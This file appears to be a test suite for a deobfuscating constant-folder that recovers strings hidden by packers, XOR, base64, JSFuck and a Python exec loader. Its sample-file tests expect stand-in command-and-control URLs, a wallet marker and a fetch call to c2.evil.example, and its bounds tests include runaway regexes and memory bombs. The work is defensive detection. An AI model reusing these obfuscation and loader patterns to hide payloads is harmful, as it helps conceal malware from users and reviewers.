import { array, assert, constantFrom, property, string } from 'fast-check'
import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { lowerJavaScript } from '../javascript/lower.ts'
import { lowerPython } from '../python/lower.ts'
import { Folder, stepsFor, worthwhile } from './fold.ts'
import type { Constant } from './fold.ts'
import type { Func, Node } from './tree.ts'
import { nodesOf } from './walk.ts'
import { spent } from '../../../test/harness/spent.ts'

type Language = 'javascript' | 'python'
const STEPS = 400_000
const lower = (language: Language, text: string): readonly Node[] =>
  (language === 'python' ? lowerPython : lowerJavaScript)({ path: 'a', text, anchor: null })
const spelled = (value: Constant | undefined): Constant | undefined => (value instanceof Uint8Array ? Buffer.from(value).toString('latin1') : value)

/** Everything that some expression of a text is worth. */
function worths(language: Language, text: string, steps = STEPS): Set<Constant | undefined> {
  const body = lower(language, text)
  const folder = new Folder({ steps, language })
  folder.prepare(body)
  return new Set([...nodesOf(body)].map((node) => spelled(folder.worth(node))))
}

/** What calling the first function of a text gives. */
function called(language: Language, text: string, ...args: Constant[]): Constant | undefined {
  const body = lower(language, text)
  const folder = new Folder({ steps: STEPS, language })
  folder.prepare(body)
  const func = [...nodesOf(body)].find((node): node is Func => node.is === 'function')
  return func && spelled(folder.call(func, args))
}

describe('JavaScript', () => it.each([
  ['sums', `f('ht' + 'tps' + '://' + 'a.example')`, 'https://a.example'],
  ['char codes', 'f(String.fromCharCode(104, 0x74, 116, 112))', 'http'],
  ['char codes of a list', 'var a = [104, 105]; f(String.fromCharCode.apply(null, a)); f(String.fromCharCode(...a))', 'hi'],
  ['mapped codes', `f([105, 106].map(function (c) { return String.fromCharCode(c - 1) }).join(''))`, 'hi'],
  ['mapped codes, arrow', `const d = (a) => a.map((c) => String.fromCharCode(c ^ 7)).join(''); f(d([111, 110]))`, 'hi'],
  ['reversal', `f('elpmaxe.a'.split('').reverse().join(''))`, 'a.example'],
  ['base64', `f(atob('aGk='))`, 'hi'],
  ['Buffers', `f(Buffer.from('6869', 'hex').toString('utf8'))`, 'hi'],
  ['Buffers to base64 and back', `f(Buffer.from(Buffer.from('hi').toString('base64'), 'base64').toString())`, 'hi'],
  ['replaced text', `f('hXiX'.replace(/X/g, ''))`, 'hi'],
  ['hex pairs', `f('6869'.match(/.{2}/g).map(function (h) { return String.fromCharCode(parseInt(h, 16)) }).join(''))`, 'hi'],
  ['hex pairs by replace', `f('6869'.replace(/../g, '%$&'), decodeURIComponent('6869'.replace(/../g, '%$&')))`, 'hi'],
  ['a xor loop', `function x(s, k) { var o = ''; for (var i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ k.charCodeAt(i % k.length)); return o } f(x('\\x03\\x0b', 'kb'))`, 'hi'],
  ['Caesar', `function c(s, n) { return s.replace(/[a-z]/g, function (l) { return String.fromCharCode((l.charCodeAt(0) - 97 + n) % 26 + 97) }) } f(c('uv', 13))`, 'hi'],
  ['rotated lists', `var a = ['b', 'a', 'hi']; (function (l, n) { while (--n) { l.push(l.shift()) } })(a, 3); f(a[0])`, 'hi'],
  ['a decoder with an offset', `var _0x1a = ['x', 'hi']; var _0x2b = function (i) { i = i - 0x10; return _0x1a[i] }; f(_0x2b('0x11'))`, 'hi'],
  ['a decoder that replaces itself', `function a() { var l = ['hi']; a = function () { return l }; return a() } function d(i) { d = function (j) { return a()[j - 5] }; return d(i) } f(d(5))`, 'hi'],
  ['functions in records', `var o = { add: function (a, b) { return a + b }, k: 'i' }; f(o['add']('h', o.k))`, 'hi'],
  ['a switch in a loop', `var o = '1|0'.split('|'), i = 0, s = ''; while (true) { switch (o[i++]) { case '0': s += 'i'; continue; case '1': s += 'h'; continue } break } f(s + '')`, 'hi'],
  ['packed code', `eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--){d[e(c)]=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1("2")',3,3,'console|log|hi'.split('|'),0,{}))`, 'console.log("hi")'],
  ['packed code, older', `eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c])}}return p}('0.1("2")',3,3,'console|log|hi'.split('|')))`, 'console.log("hi")'],
  ['unescape', `f(unescape('%68%u0069'))`, 'hi'],
  ['numbers in a radix', 'f((17).toString(36) + (18).toString(36))', 'hi'],
  ['text of nothing', 'f((![] + [])[+!+[]] + ([][[]] + [])[+[]])', 'au'],
  ['JSFuck', `f((+(+!+[]+(!+[]+[])[!+[]+!+[]+!+[]]+[+!+[]]+[+[]]+[+[]]+[+[]])+[])[+[]] + ([]['filter']+[])[!+[]+!+[]+!+[]])`, 'Ic'],
  ['constructors', `f(''['constructor']['fromCharCode'](104, 105))`, 'hi'],
  ['globals by name', `f(globalThis['at' + 'ob']('aGk='))`, 'hi'],
  ['Function', `f(Function('return unescape')()('%68i'))`, 'hi'],
  ['exceptions', `var r; try { decodeURIComponent('%'); r = 'no' } catch (e) { r = 'h' } f(r + 'i')`, 'hi'],
  ['default parameters', `function g(a, b = 'i') { return a + b } f(g('h'))`, 'hi'],
  ['destructuring', `const { a, b: [c, ...d] } = { a: 'h', b: ['x', 'i'] }; f(a + d[0])`, 'hi'],
  ['JSON', `f(JSON.parse('{"a":["h","i"]}').a.join(''))`, 'hi'],
  ['reduce', `f([104, 105].reduce(function (s, c) { return s + String.fromCharCode(c) }, ''))`, 'hi'],
  ['Array.from', `f(Array.from({ length: 2 }, (_, i) => 'hi'[i]).join(''))`, 'hi'],
  ['typed arrays', 'f(new TextDecoder().decode(new Uint8Array([104, 105])))', 'hi'],
  ['slices', `f('xxhixx'.slice(2, -2) + 'a'.repeat(2) + 'xhi'.substr(1, 1))`, 'hiaah'],
  ['generators', `function* g() { yield 'h'; yield 'i' } f([...g()].join(''))`, 'hi'],
  ['what nobody calls', `module.exports = function (x) { if (x) { return x.y(atob('aGk=')) } }`, 'hi'],
])('%s', (_name, code, expected) => expect(worths('javascript', code)).toContain(expected)))

describe('Python', () => it.each([
  ['sums', `f('ht' + 'tp')`, 'http'],
  ['characters', `f(''.join(map(chr, [104, 105])))`, 'hi'],
  ['characters one by one', `f(''.join(chr(c) for c in [104, 105]))`, 'hi'],
  ['xor', `f(''.join(chr(ord(c) ^ 7) for c in 'on'))`, 'hi'],
  ['xor with a key', `from itertools import cycle\nf(''.join(chr(ord(a) ^ ord(b)) for a, b in zip('\\x03\\x0b', cycle('kb'))))`, 'hi'],
  ['xor of bytes', `k = b'kb'\nf(bytes([b ^ k[i % len(k)] for i, b in enumerate(b'\\x03\\x0b')]).decode())`, 'hi'],
  ['a bytearray', `o = bytearray()\nfor c in b'on':\n  o.append(c ^ 7)\nf(o.decode('utf-8'))`, 'hi'],
  ['reversal', `f('elpmaxe.a'[::-1])`, 'a.example'],
  ['reversal by hand', `f(''.join(reversed('ih')))`, 'hi'],
  ['base64', `import base64\nf(base64.b64decode('aGk=').decode())`, 'hi'],
  ['base64 by another name', `from base64 import b64decode as b\nf(b(b'aGk=').decode('utf8'))`, 'hi'],
  ['a one-line loader', `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'==g0AsTAAQAyLzJe'))`, 'hi'],
  ['hex', `f(bytes.fromhex('6869').decode())`, 'hi'],
  ['codecs', `import codecs\nf(codecs.decode('uv', 'rot13'))`, 'hi'],
  ['Caesar', `def d(s, n):\n  r = ''\n  for c in s:\n    if 'a' <= c <= 'z':\n      r += chr((ord(c) - 97 - n) % 26 + 97)\n    else:\n      r += c\n  return r\nf(d('kl', 3))`, 'hi'],
  ['translate', `f('uv'.translate(str.maketrans('uv', 'hi')))`, 'hi'],
  ['a lambda called', `f((lambda s, k: ''.join(chr(ord(c) - k) for c in s))('ij', 1))`, 'hi'],
  ['getattr', `f(getattr('HI', 'lo' + 'wer')())`, 'hi'],
  ['builtins', `f(__builtins__.chr(104) + getattr(__builtins__, 'chr')(105))`, 'hi'],
  ['slices', `f('hxixx'[::2][:2])`, 'hi'],
  ['formats', `f('%s%c' % ('h', 105), '{}{}'.format('h', 'i'), f"{'h'}{105:c}")`, 'hi'],
  ['dictionaries', `d = {v: k for k, v in enumerate('ih')}\nf(''.join(sorted(d, key=lambda c: -d[c])))`, 'hi'],
  ['integers to bytes', `f((26729).to_bytes(2, 'big').decode(), int('6869', 16).to_bytes(2, 'big'))`, 'hi'],
  ['replaced text', `f('hXiX'.replace('X', ''))`, 'hi'],
  ['globals in functions', `K = 7\ndef d(l):\n  return ''.join([chr(x ^ K) for x in l])\nf(d([111, 110]))`, 'hi'],
  ['string constants', 'import string\nf(string.ascii_lowercase[7] + string.ascii_lowercase[8])', 'hi'],
  ['generators', `def g():\n  for c in [104, 105]:\n    yield chr(c)\nf(''.join(g()))`, 'hi'],
  ['what nobody calls', `import base64\nclass A:\n  def run(self):\n    if self.x:\n      self.y(base64.b64decode('aGk=').decode())`, 'hi'],
  ['exceptions', `try:\n  x = int('x')\nexcept ValueError:\n  x = 105\nf('h' + chr(x))`, 'hi'],
  ['while', `s = 'ih'\nr = ''\ni = len(s)\nwhile i > 0:\n  i -= 1\n  r += s[i]\nf(r + '')`, 'hi'],
])('%s', (_name, code, expected) => expect(worths('python', code)).toContain(expected)))

describe('obfuscated files', () => {
  const sample = (name: string): string => readFileSync(new URL(`fold.samples/${name}.js.txt`, import.meta.url), 'utf8')

  it.each(['plain', 'rotate', 'base64', 'flatten'])('gives up its strings: %s', (name) => {
    const found = worths('javascript', sample(name))
    for (const text of ['https://c2.evil.example/x', 'https://c2.evil.example/collect', 'wallet.invalid']) expect(found).toContain(text)
  })
  it.each(['rc4', 'wrappers'])('gives up its strings, with more steps: %s', (name) => {
    const found = worths('javascript', sample(name), stepsFor(sample(name)))
    for (const text of ['https://c2.evil.example/x', 'https://c2.evil.example/collect', 'wallet.invalid']) expect(found).toContain(text)
  })
  it('is spelled in six characters', () => expect(worths('javascript', sample('jsfuck'))).toContain('fetch("https://c2.evil.example")'))
  it.each(['plain', 'rc4', 'jsfuck'])('is worth the trouble: %s', (name) => expect(worthwhile(sample(name))).toBe(true))
})

describe('steps', () => it.each([
  ['none for honest code', 'const a = require("a"); module.exports = () => a.b + "c"', 0],
  ['some where text is taken apart', 'f(String.fromCharCode(104))', 300_000],
  ['many for arrays that are turned', 'var _0x1234 = []; _0x1234.push(_0x1234.shift())', 12_000_000],
])('%s', (_name, text, expected) => expect(stepsFor(text)).toBe(expected)))

describe('what is not known', () => {
  it.each([
    ['arguments of others', 'f(g() + "a")', 'a'],
    ['one of two', 'let x = "a"; if (g()) x = "b"; f(x + "c")', 'ac'],
    ['how often a loop runs', 'let x = "a"; while (g()) x += "b"; f(x + "c")', 'ac'],
    ['a list somebody else has had', 'const l = ["a"]; g(l); f(l[0] + "b")', 'ab'],
    ['what throws nobody knows when', 'let x = "a"; try { g() } catch (e) { x = "b" } f(x + "c")', 'ac'],
    ['an early return', 'function h(y) { if (g()) return "a"; return "b" } f(h(1) + "c")', 'bc'],
    ['a loop that may have been left', 'let x = ""; for (const c of "ab") { x += c; if (g()) break } f(x + "c")', 'abc'],
    ['another text each time', 'for (const c of "ab") f(c + "c")', 'ac'],
    ['a default', 'let x = g() || "a"; f(x + "b")', 'ab'],
    ['a deep global', 'f(a.b.c + "d")', 'd'],
  ])('stays unknown: %s', (_name, code, wrong) => expect(worths('javascript', code)).not.toContain(wrong))
})

describe('functions', () => {
  it('are called with constants', () => expect(called('javascript', 'function d(s, k) { return s.split("").map((c) => String.fromCharCode(c.charCodeAt(0) ^ k)).join("") }', 'on', 7)).toBe('hi'))
  it('see the variables around them', () => expect(called('python', 'def d(i):\n  return T[i] + "i"\nT = ["h"]\n', 0)).toBe('hi'))
  it('have defaults and rests', () => expect(called('python', 'def d(a, b="i", *c):\n  return a + b + str(len(c))\n', 'h')).toBe('hi0'))
  it('ask about what is outside', () => {
    const body = lower('python', 'import m\nf(m.d("x") + "i")')
    const folder = new Folder({ steps: STEPS, language: 'python', refer: (ref, args) => (ref === 'm.d' && args[0] === 'x' ? 'h' : undefined) })
    folder.prepare(body)
    expect([...nodesOf(body)].map((node) => folder.worth(node))).toContain('hi')
  })
  it('are not known when something in them is not', () => expect(called('javascript', 'function d(s) { return s + g() }', 'a')).toBeUndefined())
})

describe('bounds', () => {
  it.each([
    ['an endless loop', 'javascript', 'for (;;) {} '],
    ['an endless recursion', 'javascript', 'function f(x) { return f(x + 1) + 1 } f(1)'],
    ['a doubling text', 'javascript', `let x = 'aaaaaaaaaa';${'x += x;'.repeat(200)}`],
    ['a doubling list', 'javascript', `let x = [1];${'x = x.concat(x);'.repeat(200)}`],
    ['a huge repetition', 'javascript', 'f("a".repeat(1e9), "ab".padStart(1e9), Array(1e9), [].concat(Array(65536)))'],
    ['a list in itself', 'javascript', 'const a = []; a.push(a); f(a + "", a.join(), a.flat())'],
    ['replacements that grow', 'javascript', `let x = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'; for (let i = 0; i < 1e6; i++) x = x.replace(/a/g, '$&$&$&$&')`],
    ['patterns that run away', 'javascript', `f(/^(a+)+$/.test('${'a'.repeat(40)}!'), '${'a'.repeat(40)}!'.replace(/(a|a)*b/g, ''))`],
    ['a sum of nothing', 'javascript', `f(${'[]+'.repeat(50_000)}[])`],
    ['comparisons that throw', 'javascript', '[3, 2, 1].sort((a, b) => { throw a })'],
    ['huge powers', 'python', 'f(2 ** 100000, 10 ** 400 // 3, 1 << 100000, "a" * 10 ** 10, [0] * 10 ** 10)'],
    ['endless ranges', 'python', 'f(list(range(10 ** 12)), [0 for a in range(60000) for b in range(60000)])'],
    ['lists of one list', 'python', 'a = [0] * 60000\nb = [a] * 60000\nf(zip(*b), sum(b, []), str(b), b == [a] * 60000, a in b, sorted(a), list(itertools.chain(*b)))'],
    ['bytes of one piece', 'python', 'a = b"x" * 60000\nb = [a] * 60000\nf(b"".join(b), "".join(["x" * 60000] * 60000), ("{0}" * 60000).format("x" * 60000))'],
    ['lists that are kept', 'javascript', 'const a = Array(65000).fill(1), b = []; for (;;) b.push([...a], a.slice(), a.concat(), a.map((x) => x))'],
    ['texts of lists', 'javascript', 'const a = Array(65000).fill(1), b = Array(65000).fill(a); f(String.fromCharCode(...b), b + "", b.sort(), b.flat(), b == 1, b.join().split(""))'],
    ['patterns on long texts', 'javascript', 'const s = " ".repeat(200000) + "x"; for (;;) f(s.replace(/\\s+$/, ""), s.replace(/[ !]+\\b/g, ""), s.match(/ {9} {9} {9} {9} {9} {9} {9} {9} {9}y/))'],
    ['branches in branches', 'javascript', `${'if (g()) { x = 1; '.repeat(500)}${'}'.repeat(500)}`],
    ['long rows of tests', 'javascript', `${'if (g()) x = 1; else '.repeat(2000)}y()`],
  ] as const)('hold for %s', (_name, language, code) => {
    const start = spent()
    worths(language, code)
    expect(spent() - start).toBeLessThan(4000)
  })

  const piece = constantFrom('f(', ')', '[', ']', '{', '}', 'x', 'y', '=', '+', ',', ';', '"a"', '1', '.', 'split', 'map', 'join', 'push', 'for(;;)', 'if', 'return ', 'function f(x)', '=>', 'x[0]', '-', '%', 'while(x)', 'try{', 'catch(e){', 'String.fromCharCode', 'null', 'break', 'this', 'arguments', '...', 'def f(x):\n ', 'lambda x:', 'for x in y', '\n', ':')
  it('never throws', () => {
    const check = (text: string): void => {
      for (const language of ['javascript', 'python'] as const) {
        const body = lower(language, text)
        const folder = new Folder({ steps: 5000, language })
        folder.prepare(body)
        for (const node of nodesOf(body)) {
          folder.worth(node)
          if (node.is === 'function') folder.call(node, ['a', 1, ['b'], new Map()])
        }
      }
    }
    assert(property(array(piece, { maxLength: 30 }), (pieces) => check(pieces.join(''))), { numRuns: 1000, seed: 7 })
    assert(property(string({ unit: 'binary', maxLength: 40 }), check), { numRuns: 100, seed: 7 })
  })
})
